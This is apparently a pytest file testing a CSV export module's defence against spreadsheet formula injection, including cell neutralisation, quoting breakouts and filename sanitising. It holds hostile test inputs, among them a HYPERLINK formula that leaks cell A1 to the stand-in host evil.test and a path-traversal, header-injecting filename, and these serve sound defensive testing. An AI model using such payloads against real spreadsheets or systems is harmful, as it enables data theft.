"""No cell of an export starts a formula; everything else leaves as it is."""

import csv
import io
import json
import unicodedata
from datetime import UTC, date, datetime, timedelta, timezone
from pathlib import Path

import pytest

from seoapp.lib.export import csv_cell, csv_lines, csv_row, neutralise, safe_filename

VECTORS = Path(__file__).resolve().parents[3] / "shared" / "hostile" / "export" / "formula_injection.json"
FORMULAS = [
    "=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\0=1", " =1", "\u00a0=1", "\ufeff=1", "\u200b\u200e =1",
    "\uff1d1", "\uff0b1", "\uff0d1", "\uff20x", '=HYPERLINK("http://evil.test/?"&A1,"x")', "-", "+49 30 1234", "@user",
    "\u2060=1", "\u00ad=1", "\u180e=1", "\u3000=1", " \t=1", "\x0b=1+1", "\x0c=1+1", "\x85=1+1", "\u2028=1+1",
    "\x01=1+1", "\x1b\x7f=1+1", "\u2003=1+1", "\u202f+1", "\ue000=1", "\ufff9@x", "\U000e0041=1",
    "\x0b \x01\u2003\uff1d1",
]  # fmt: skip
PLAIN = ["lamp", "a=1", "'=1", "(1)", "http://x.test/?a==1", "%0A=1", "", " lamp", "\u202elamp\u202c", "5 - 3", "ünï"]


def shown(row: list[object]) -> list[str]:
    """The cells of a row as a spreadsheet reads them back."""
    (read,) = csv.reader(io.StringIO(csv_row(row), newline=""))
    return read


def starts_formula(cell: str) -> bool:
    visible = [one for one in cell if unicodedata.category(one)[0] not in "ZC"]
    return visible[:1] != [] and visible[0] in "=+-@\uff1d\uff0b\uff0d\uff20"


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_are_neutralised(text: str) -> None:
    assert neutralise(text) == "'" + text
    first, middle, last = shown([text, text, text])
    assert not any(map(starts_formula, (first, middle, last)))


@pytest.mark.parametrize("text", PLAIN)
def test_other_texts_are_unchanged(text: str) -> None:
    assert shown([text, "x"]) == [text, "x"]


def test_numbers_and_dates_are_no_texts() -> None:
    assert csv_row([-5, 1.5, date(2026, 1, 2), True, None]) == "-5,1.5,2026-01-02,true,\r\n"


def test_moments_are_in_utc_to_the_second() -> None:
    moment = datetime(2026, 11, 27, 7, 46, 8, 482726, UTC)
    assert csv_cell(moment) == "2026-11-27 07:46:08"
    assert csv_cell(moment.astimezone(timezone(timedelta(hours=5, minutes=30)))) == "2026-11-27 07:46:08"
    assert csv_cell(moment.replace(tzinfo=None)) == "2026-11-27 07:46:08"


def test_a_cell_cannot_break_out() -> None:
    assert shown(['a","=1+1', "b\r\n=1+1", "c\t=1"]) == ['a","=1+1', "b =1+1", "c =1"]
    assert csv_cell('say "hi"') == '"say ""hi"""'
    assert csv_cell("a\0b") == '"ab"'


def test_lines_start_with_a_mark_and_the_header() -> None:
    assert list(csv_lines(["a", "=b"], [[1, "x"]])) == ['\ufeff"a","\'=b"\r\n', '1,"x"\r\n']


def test_file_names_are_plain() -> None:
    assert safe_filename('../../etc/"passwd"\r\nX: y') == "etc-passwd-X-y"
    assert safe_filename("…") == "export"


@pytest.mark.skipif(not VECTORS.exists(), reason="the shared hostile files are not here")
def test_shared_cells() -> None:
    cells = json.loads(VECTORS.read_text())
    assert len(cells) == 44
    for one in cells:
        before, found, after = shown(["a", one["value"], "z"])
        assert (before, after) == ("a", "z") and not starts_formula(found), one
        if not one["must_neutralise"]:
            assert found == one["value"], one
